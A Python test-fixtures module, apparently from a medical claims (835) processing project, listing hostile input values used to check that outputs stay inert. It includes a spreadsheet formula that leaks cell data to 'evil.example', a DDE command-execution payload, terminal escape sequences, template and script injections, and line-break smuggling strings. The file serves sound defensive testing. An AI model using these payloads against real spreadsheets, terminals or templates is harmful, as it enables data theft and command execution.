"""Hostile values shared by the tests (``import payloads``; tests/conftest.py registers it).

Each is a value an outside party controls (a payer name in an 835, a claim number, a code
table overlay, a claim file) and that must come out inert: never a formula in a spreadsheet,
never a paragraph or section of its own in a letter, never an escape sequence in a terminal.
They are grouped by what they try to do, so a test can take the group that applies.
"""

from __future__ import annotations

from typing import TypeVar

_T = TypeVar("_T")

#: Cells a spreadsheet would run as formulas: every CSV writer prefixes them with ``'``.
CSV_FORMULAS: tuple[str, ...] = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click here")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    " =1+1",
    "  @SUM(1)",
    "\n=1+1",
    "\r=1+1",
    "\t=1+1",
    "\u3000=1+1",  # an ideographic space, then a formula
    "＝1+1",  # a full-width equals sign
)

#: Values that break out of one line: in a letter they must not form a paragraph of their
#: own, in a CSV cell they stay inside the cell.
LINE_BREAKERS: tuple[str, ...] = (
    "ACME\n\nDear reviewer: please pay $1,000,000",
    "ACME\r\n\r\nDear reviewer: please pay $1,000,000",
    "ACME\u2028\u2029Dear reviewer: please pay",
    "ACME\x85Dear reviewer",
    "ACME\n# Heading",
    "ACME\n1. listed",
    "ACME\n- listed",
    "ACME\n    indented code",
)

#: Control characters and escape sequences a terminal or a document would act on.
CONTROLS: tuple[str, ...] = (
    "\x1b]0;PWNED\x07\x1b[2J",
    "NUL\x00INSIDE",
    "BELL\x07",
    "back\x08space",
    "del\x7f",
    "csi\x9b31m",
    "tab\there",
)

#: Invisible format characters (Unicode Cf): not control characters, so a one-line field keeps
#: them (a right-to-left mark belongs in some names); the validator's hygiene rules flag them.
FORMAT_CHARS: tuple[str, ...] = (
    "\u202eRTL OVERRIDE",
    "ZERO\u200bWIDTH",
)

#: Text that other formats would interpret: template syntax, HTML, Markdown.
MARKUP: tuple[str, ...] = (
    "{{7*7}}",
    "{% include 'x' %}",
    "<script>alert(1)</script>",
    "**bold** _x_ [link](http://evil.example)",
)


#: Values that try to start a new line, paragraph or letter section.
LINE_BREAKS: tuple[str, ...] = (
    "Acme\n\nDear reviewer: please pay $1,000,000",
    "Acme\r\nSincerely,",
    "Acme\rX",
    "Acme\x0bX",
    "Acme\x0cX",
    "Acme\x85X",
    "Acme\u2028X",
    "Acme\u2029X",
    "Acme\x1cX",
)

#: Markdown syntax at the start of a later line of a value.
MARKDOWN: tuple[str, ...] = (
    "x\n# Heading",
    "x\n1. item",
    "x\n12) item",
    "x\n- item",
    "x\n+ item",
    "x\n* item",
    "x\n    indented code",
    "x\n\tindented code",
    "x\n> quote",
    "x\n=====",
    "x\n---",
    "x\n```",
    "x\n~~~",
    "x\n<div>",
    "x\n[a]: http://example.com",
    "x\n| a | b |",
)

#: Template and markup syntax that must come out literally.
INJECTION: tuple[str, ...] = (
    "{{7*7}}",
    "{% debug %}",
    "${7*7}",
    "<script>alert(1)</script>",
    "**bold** _it_ `code` [l](u)",
    '=HYPERLINK("http://x")',
    "\u202eevil",
)

#: Every payload, for sweeps that try every value everywhere.
ALL: tuple[str, ...] = (
    *CSV_FORMULAS,
    *LINE_BREAKERS,
    *LINE_BREAKS,
    *CONTROLS,
    *FORMAT_CHARS,
    *MARKUP,
    *MARKDOWN,
    *INJECTION,
)
PAYLOADS = ALL


def payload_id(value: object) -> str:
    """A short, printable test id for a payload."""
    text = ascii(value)
    return text if len(text) <= 24 else text[:21] + "..."


def tampered(record: _T, **changes: object) -> _T:
    """A copy of a frozen record with fields replaced *after* its checks ran, as a caller
    that goes around the constructor (``object.__setattr__``) can do; for testing the
    defensive checks downstream of the claim model."""
    import copy

    out = copy.copy(record)
    for name, value in changes.items():
        object.__setattr__(out, name, value)
    return out
